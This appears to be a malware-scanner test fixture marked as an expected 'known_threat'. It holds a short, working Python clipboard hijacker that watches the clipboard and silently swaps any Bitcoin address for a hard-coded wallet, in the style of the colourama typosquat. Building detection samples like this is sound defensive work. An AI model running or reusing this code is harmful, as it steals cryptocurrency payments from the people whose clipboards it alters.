# expect: BLOCKED category: known_threat
# A clipboard hijacker in the style of the 2018 colourama typosquat: swaps wallet addresses.
# Nothing in it is dangerous to the machine, so only its listed hash identifies it.
import re
import time

import pyperclip

WALLET = "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"
PATTERN = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

while True:
    content = pyperclip.paste()
    if PATTERN.match(content) and content != WALLET:
        pyperclip.copy(WALLET)
    time.sleep(0.5)
